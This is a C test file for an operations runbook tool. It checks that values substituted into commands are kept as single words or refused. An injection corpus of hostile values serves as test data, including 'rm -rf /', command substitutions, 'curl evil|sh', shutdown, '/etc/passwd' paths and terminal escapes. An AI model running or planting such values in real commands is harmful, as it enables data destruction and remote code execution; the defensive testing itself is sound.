/* Commands as words: splitting against a real shell, and the injection corpus: whatever a
 * value holds, it comes out of the program that was named as the one word it was, or the
 * step is refused. */
#include "ops/words.h"

#include "base/alloc.h"
#include "base/str.h"
#include "base/text.h"
#include "ops/runbook.h"
#include "ops/values.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

static struct arena arena;
static struct words words;
static struct err err;

static int make(void **state)
{
	(void)state;
	arena_init(&arena, 4 << 20);
	return 0;
}

static int drop(void **state)
{
	(void)state;
	arena_release(&arena);
	return 0;
}

/* One value for every name. */
struct one {
	const char *value;
	size_t n;
};

static bool one_value(void *ctx, struct untrusted name, bool shell, struct untrusted *out,
	struct err *e)
{
	const struct one *one = ctx;

	(void)name;
	if (shell && !words_plain(untrusted_make(one->value, one->n), ""))
		return err_set(e, ERR_REFUSED, "not for a shell");
	*out = untrusted_make(one->value, one->n);
	return true;
}

static bool all_ours(void *ctx, struct untrusted name)
{
	(void)ctx;
	(void)name;
	return true;
}

/* --- splitting --- */

static const struct row {
	const char *block;
	const char
		*expected; /* words with | between; NULL: it needs a shell, or is wrong */
	const char *why;   /* of a shell, or part of the sentence */
} rows[] = {
	{"df -h /", "df|-h|/", NULL},
	{"  df\t-h   / \n", "df|-h|/", NULL},
	{"\n\ndf -h\n\n", "df|-h", NULL},
	{"df \\\n  -h", "df|-h", NULL},
	{"df \\\r\n -h\r\n", "df|-h", NULL},
	{"echo 'a  b' \"c  d\"", "echo|a  b|c  d", NULL},
	{"echo a'b'\"c\"d", "echo|abcd", NULL},
	{"echo '' \"\"", "echo||", NULL},
	{"echo \\; \\$x \"\\$x\" '$x'", "echo|;|$x|$x|$x", NULL},
	{"echo \"a\\b\" 'a\\b' a\\b", "echo|a\\b|a\\b|ab", NULL},
	{"find . -exec ls {} +", "find|.|-exec|ls|{}|+", NULL},
	{"find . -name '*.gz' -exec ls {} \\;", "find|.|-name|*.gz|-exec|ls|{}|;", NULL},
	{"echo a # b c", "echo|a", NULL},
	{"# first\necho a#b", "echo|a#b", NULL},
	{"echo a=b", "echo|a=b", NULL},
	{"echo x~", "echo|x~", NULL},
	{"echo ${x}", "echo|V", NULL},
	{"echo a${x}b", "echo|aVb", NULL},
	{"echo \"${x} ${y}\"", "echo|V V", NULL},
	{"echo ${alert.pod_name} ${step.3}", "echo|V|V", NULL},
	{"echo a | wc", NULL, "a pipe"},
	{"a && b", NULL, "several commands"},
	{"a; b", NULL, "several commands"},
	{"a\nb", NULL, "several commands"},
	{"a & ", NULL, "several commands"},
	{"(a)", NULL, "several commands"},
	{"a > b", NULL, "a redirection"},
	{"a < b", NULL, "a redirection"},
	{"a 2>/dev/null", NULL, "a redirection"},
	{"echo $HOME", NULL, "an expansion"},
	{"echo \"$HOME\"", NULL, "an expansion"},
	{"echo ${HOME}", NULL, "an expansion"},
	{"echo ${x:-y}", NULL, "an expansion"},
	{"echo ${x.}", NULL, "an expansion"},
	{"echo $(id)", NULL, "an expansion"},
	{"echo `id`", NULL, "an expansion"},
	{"echo \"`id`\"", NULL, "an expansion"},
	{"ls *.c", NULL, "a pattern"},
	{"ls ?", NULL, "a pattern"},
	{"ls [ab]", NULL, "a pattern"},
	{"ls ~/x", NULL, "a pattern"},
	{"A=b cmd", NULL, "an assignment"},
	{"if true", NULL, "a word of the shell"},
	{"! true", NULL, "a word of the shell"},
	{"cd /tmp", NULL, "a word of the shell"},
	{"echo 'a", NULL, "single quote has no end"},
	{"echo \"a", NULL, "double quote has no end"},
	{"# only this", NULL, "no command"},
	{"", NULL, "no command"},
};

static void join(const char *const *argv, size_t argc, char *out, size_t size)
{
	*out = '\0';
	for (size_t i = 0; i < argc; i++)
		snprintf(out + strlen(out), size - strlen(out), "%s%s", i ? "|" : "",
			argv[i]);
}

static void splitting(void **state)
{
	struct one one = {"V", 1};
	const struct words_values values = {one_value, all_ours, &one};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		const struct row *r = &rows[i];
		bool ok = words_read(&words, &arena, untrusted_str(r->block), &err);
		const char *const *argv;
		char joined[400];
		size_t argc;

		if (!r->expected) {
			const char *why = ok ? words.why : err.text;

			if ((ok && !words.shell) || !why || !strstr(why, r->why))
				fail_msg("%s: %s", r->block, why ? why : "no shell");
			arena_reset(&arena);
			continue;
		}
		if (!ok || words.shell)
			fail_msg("%s: %s", r->block, ok ? words.why : err.text);
		assert_true(words_argv(
			&words, &values, "/bin/sh", &arena, &argv, &argc, &err));
		join(argv, argc, joined, sizeof joined);
		assert_string_equal(joined, r->expected);
		assert_null(argv[argc]);
		arena_reset(&arena);
	}
}

/* --- what a program gets --- */

/* Runs it; what it prints, in out. */
static void run(const char *const *argv, struct str *out)
{
	int fds[2], status;
	char part[4096];
	ssize_t n;
	pid_t pid;

	assert_int_equal(pipe(fds), 0);
	pid = fork();
	if (!pid) {
		dup2(fds[1], 1);
		close(fds[0]);
		close(fds[1]);
		execvp(argv[0], (char **)(uintptr_t)argv);
		_exit(127);
	}
	close(fds[1]);
	while ((n = read(fds[0], part, sizeof part)) > 0)
		str_add(out, part, (size_t)n);
	close(fds[0]);
	waitpid(pid, &status, 0);
}

#define OWNED "/tmp/oogway-words-owned"
static const char *const corpus[] = {
	"; rm -rf /",
	"; touch " OWNED " #",
	"$(touch " OWNED ")",
	"`touch " OWNED "`",
	"| touch " OWNED,
	"|| touch " OWNED,
	"&& touch " OWNED,
	"& touch " OWNED,
	"\ntouch " OWNED "\n",
	"\r\ntouch " OWNED,
	"'; touch " OWNED "; '",
	"\"; touch " OWNED "; \"",
	"\\'; touch " OWNED " #",
	"\\\"; touch " OWNED " #",
	"'\"'\"'; touch " OWNED,
	"${IFS}touch${IFS}" OWNED,
	"$((1)) a b",
	"{touch," OWNED "}",
	"<(touch " OWNED ")",
	"> " OWNED,
	">" OWNED,
	"x > " OWNED,
	"*",
	"/e*/passwd",
	"~root",
	"?",
	"[a-z]*",
	"a b  c",
	"\ta\t",
	" ",
	"#",
	"# comment",
	"!",
	"!!",
	"$0",
	"$$",
	"$1",
	"${host}",
	"${x}",
	"%s%n%x",
	"\\",
	"\\\\",
	"\\n",
	"'",
	"\"",
	"`",
	"$(",
	"${",
	"a;b",
	"a|b",
	"a&b",
	"a>b",
	"a(b)",
	"a=b;c",
	"\x1b]52;c;ZWNobw==\x07",
	"\x1b[2J",
	"\xff\xfe",
	"\xc0\xaf",
	"\xe2\x80\xae"
	"evil",
	"\x01\x02\x7f",
	"x\ny",
	"\n",
	"; shutdown -h now",
	"host;id",
	"a\\\nb",
	"../../etc/passwd",
	"web-1; curl evil|sh",
	"EOF\ntouch " OWNED "\nEOF",
	"\\$(touch " OWNED ")",
	"'$(touch " OWNED ")'",
	"\"$(touch " OWNED ")\"",
	"a'$(touch " OWNED ")'b",
	"'`touch " OWNED "`'",
};

/* "[VALUE]" of each value that came out, NULs between. */
static void expect(
	const struct str *out, const char *value, size_t times, const char *how)
{
	size_t n = strlen(value), at = 0;

	for (size_t i = 0; i < times; i++) {
		if (out->n < at + n + 1 || memcmp(out->p + at, value, n) ||
			out->p[at + n])
			fail_msg("%s: \"%s\" came out as \"%s\"", how, value,
				out->n > at ? out->p + at : "");
		at += n + 1;
	}
	if (out->n != at)
		fail_msg("%s: \"%s\" became more", how, value);
}

/* Without a shell all of them pass, as they are. */
static void stays_one_word(void **state)
{
	static const struct {
		const char *block;
		size_t times;
	} blocks[] = {
		{"printf %s\\\\0 ${alert.host}", 1},
		{"printf '%s\\0' \"${alert.host}\"", 1},
		{"printf '%s\\0' ${alert.host} ${alert.host}", 2},
	};

	(void)state;
	unlink(OWNED);
	for (size_t i = 0; i < sizeof corpus / sizeof corpus[0]; i++) {
		for (size_t k = 0; k < sizeof blocks / sizeof blocks[0]; k++) {
			struct one one = {corpus[i], strlen(corpus[i])};
			const struct words_values values = {one_value, all_ours, &one};
			const char *const *argv;
			struct str out;
			size_t argc;

			assert_true(words_read(
				&words, &arena, untrusted_str(blocks[k].block), &err));
			assert_false(words.shell);
			assert_true(words_argv(
				&words, &values, "/bin/sh", &arena, &argv, &argc, &err));
			assert_int_equal(argc, 2 + blocks[k].times);
			str_init(&out, 1 << 16);
			run(argv, &out);
			expect(&out, corpus[i], blocks[k].times, blocks[k].block);
			str_release(&out);
			arena_reset(&arena);
		}
	}
	assert_int_not_equal(access(OWNED, F_OK), 0);
}

/* What is shown to be confirmed, pasted into a shell, is the same command. */
static void shown_is_the_same(void **state)
{
	(void)state;
	unlink(OWNED);
	for (size_t i = 0; i < sizeof corpus / sizeof corpus[0]; i++) {
		struct one one = {corpus[i], strlen(corpus[i])};
		const struct words_values values = {one_value, all_ours, &one};
		struct untrusted shown;
		struct str line, out;
		size_t n;
		const char *p;

		assert_true(words_read(&words, &arena,
			untrusted_str("printf '%s\\0' x${alert.host}y"), &err));
		assert_true(words_show(&words, &values, &arena, &shown, &err));
		p = text_raw(shown, &n);
		str_init(&line, 1 << 16);
		str_add(&line, p, n);
		str_init(&out, 1 << 16);
		run((const char *const[]){"sh", "-c", str_text(&line), NULL}, &out);
		str_reset(&line);
		str_printf(&line, "x%sy", corpus[i]);
		expect(&out, str_text(&line), 1, "as shown");
		str_release(&line);
		str_release(&out);
		arena_reset(&arena);
	}
	assert_int_not_equal(access(OWNED, F_OK), 0);
}

/* Behind a shell: it is one word, or it is refused; nothing else happens. */
static void behind_a_shell(void **state)
{
	static const char *const shells[] = {"/bin/sh", "/bin/bash"};
	static const char *const blocks[] = {
		"printf '%s\\0' ${alert.host} | cat",
		"printf '%s\\0' \"${alert.host}\" | cat",
		"for i in 1; do printf '%s\\0' ${alert.host}; done",
		"sh -c \"printf '%s\\0' ${alert.host}\" | cat",
		"f() { printf '%s\\0' ${alert.host}; }; f a b",
		"eval printf '%s\\\\0' ${alert.host} | cat",
	};
	static const char *const plain[] = {
		"web-1", "10.0.0.1:9100", "user@host", "/var/log/a+b=c", "a~b", "x_y"};
	size_t refused = 0;

	(void)state;
	unlink(OWNED);
	for (size_t i = 0; i < 2 * (sizeof corpus / sizeof corpus[0]); i++) {
		size_t at = i / 2;
		struct one one = {corpus[at], strlen(corpus[at])};
		const struct words_values values = {one_value, all_ours, &one};
		const char *const *argv;
		struct str out;
		size_t argc;

		for (size_t k = 0; k < sizeof blocks / sizeof blocks[0]; k++) {
			assert_true(words_read(
				&words, &arena, untrusted_str(blocks[k]), &err));
			assert_true(words.shell);
			if (!words_argv(&words, &values, shells[i % 2], &arena, &argv,
				    &argc, &err)) {
				refused++;
				arena_reset(&arena);
				continue;
			}
			str_init(&out, 1 << 16);
			run(argv, &out);
			expect(&out, corpus[at], 1, blocks[k]);
			str_release(&out);
			arena_reset(&arena);
		}
	}
	assert_true(refused > 100);
	for (size_t i = 0; i < sizeof plain / sizeof plain[0]; i++) {
		for (size_t k = 0; k < sizeof blocks / sizeof blocks[0]; k++) {
			struct one one = {plain[i], strlen(plain[i])};
			const struct words_values values = {one_value, all_ours, &one};
			const char *const *argv;
			struct str out;
			size_t argc;

			assert_true(words_read(
				&words, &arena, untrusted_str(blocks[k]), &err));
			assert_true(words_argv(&words, &values, shells[i % 2], &arena,
				&argv, &argc, &err));
			str_init(&out, 1 << 16);
			run(argv, &out);
			expect(&out, plain[i], 1, blocks[k]);
			str_release(&out);
			arena_reset(&arena);
		}
	}
	assert_int_not_equal(access(OWNED, F_OK), 0);
}

static void refused(void **state)
{
	static const struct {
		const char *block, *value, *why;
	} cases[] = {
		{"ls ${x}", "-rf", "begins with -"},
		{"ls a '${x}'", "web", "single quotes"},
		{"ls '${x}' | cat", "web", "single quotes"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct one one = {cases[i].value, strlen(cases[i].value)};
		const struct words_values values = {one_value, all_ours, &one};
		const char *const *argv;
		size_t argc;

		assert_true(
			words_read(&words, &arena, untrusted_str(cases[i].block), &err));
		assert_false(words_argv(
			&words, &values, "/bin/sh", &arena, &argv, &argc, &err));
		if (!strstr(err.text, cases[i].why))
			fail_msg("%s: %s", cases[i].block, err.text);
		arena_reset(&arena);
	}
	/* Inside of a word a dash is one. */
	{
		struct one one = {"-x", 2};
		const struct words_values values = {one_value, all_ours, &one};
		const char *const *argv;
		size_t argc;

		assert_true(words_read(&words, &arena, untrusted_str("ls a${x}"), &err));
		assert_true(words_argv(
			&words, &values, "/bin/sh", &arena, &argv, &argc, &err));
		assert_string_equal(argv[1], "a-x");
	}
}

/* --- typed values --- */

static void typed(void **state)
{
	static const char text[] = "---\nvars:\n"
				   "  - host: {from: instance, type: host}\n"
				   "  - pid: {type: int}\n"
				   "  - url: {type: url}\n"
				   "  - file: {type: path}\n"
				   "  - unit: {type: name, default: web}\n"
				   "  - free\n"
				   "  - level: {choices: [low, high]}\n"
				   "  - token: {secret: true}\n"
				   "---\n";
	static const struct {
		const char *name, *value, *expected; /* NULL: refused */
	} cases[] = {
		{"host", "web-1", "web-1"},
		{"host", "http://web-1:9100/metrics", "web-1"},
		{"host", "10.0.0.1:9100", "10.0.0.1"},
		{"host", "[::1]:9100", "::1"},
		{"host", "fe80::1", "fe80::1"},
		{"host", "; rm -rf /", NULL},
		{"host", "-oProxyCommand=id", NULL},
		{"host", "http://", NULL},
		{"host", "a b", NULL},
		{"pid", "123", "123"},
		{"pid", "-1", NULL},
		{"pid", "1 2", NULL},
		{"pid", "1e3", NULL},
		{"pid", "99999999999999999999", NULL},
		{"url", "https://a.example/x?y=1&z=%20", "https://a.example/x?y=1&z=%20"},
		{"url", "file:///etc/passwd", NULL},
		{"url", "http://a/$(id)", NULL},
		{"url", "-http://a", NULL},
		{"file", "/var/log/x", "/var/log/x"},
		{"file", "var", NULL},
		{"file", "/a b", NULL},
		{"file", "/a;b", NULL},
		{"unit", "nginx.service", "nginx.service"},
		{"unit", "a'b", NULL},
		{"unit", "-a", NULL},
		{"free", "; rm -rf /", "; rm -rf /"},
		{"free", "", NULL},
		{"level", "low", "low"},
		{"level", "lo", NULL},
		{"level", "low, high", NULL},
		{"token", "x", NULL},
		{"none", "x", NULL},
	};
	struct runbook book;

	(void)state;
	runbook_parse(&book, untrusted_str(text));
	assert_int_equal(book.var_count, 8);
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct untrusted name = untrusted_str(cases[i].name), out;
		struct values values;
		bool ok;

		values_init(&values, &book, 1 << 16);
		ok = values_set(&values, name, untrusted_str(cases[i].value), &err);
		if (ok != (cases[i].expected != NULL))
			fail_msg("%s=%s: %s", cases[i].name, cases[i].value,
				ok ? "taken" : err.text);
		if (ok && (!values_get(&values, name, false, &out, &err) ||
				  !untrusted_is(out, cases[i].expected)))
			fail_msg("%s=%s is another", cases[i].name, cases[i].value);
		values_release(&values);
	}
	runbook_release(&book);
}

/* What was typed, the label, the default, in this order; a label that is not of its type
 * is refused, not passed by. */
static void order(void **state)
{
	static const char text[] =
		"---\nvars:\n  - unit: {from: service, type: name, default: web}\n---\n";
	struct untrusted name = untrusted_str("unit"), out;
	struct values values;
	struct runbook book;

	(void)state;
	runbook_parse(&book, untrusted_str(text));
	values_init(&values, &book, 1 << 16);
	assert_true(values_get(&values, name, false, &out, &err));
	assert_true(untrusted_is(out, "web"));
	values_label(&values, untrusted_str("service"), untrusted_str("api"));
	assert_true(values_get(&values, name, true, &out, &err));
	assert_true(untrusted_is(out, "api"));
	assert_true(values_set(&values, name, untrusted_str("db"), &err));
	assert_true(values_get(&values, name, true, &out, &err));
	assert_true(untrusted_is(out, "db"));
	values_release(&values);
	values_init(&values, &book, 1 << 16);
	values_label(&values, untrusted_str("service"), untrusted_str("; id"));
	assert_false(values_get(&values, name, false, &out, &err));
	assert_true(
		values_get(&values, untrusted_str("alert.service"), false, &out, &err));
	assert_true(untrusted_is(out, "; id"));
	assert_false(
		values_get(&values, untrusted_str("alert.service"), true, &out, &err));
	assert_false(values_get(&values, untrusted_str("alert.x"), false, &out, &err));
	assert_false(values_get(&values, untrusted_str("nothing"), false, &out, &err));
	values_release(&values);
	runbook_release(&book);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(splitting),
		cmocka_unit_test(stays_one_word),
		cmocka_unit_test(shown_is_the_same),
		cmocka_unit_test(behind_a_shell),
		cmocka_unit_test(refused),
		cmocka_unit_test(typed),
		cmocka_unit_test(order),
	};

	return cmocka_run_group_tests_name("ops/words", tests, make, drop);
}
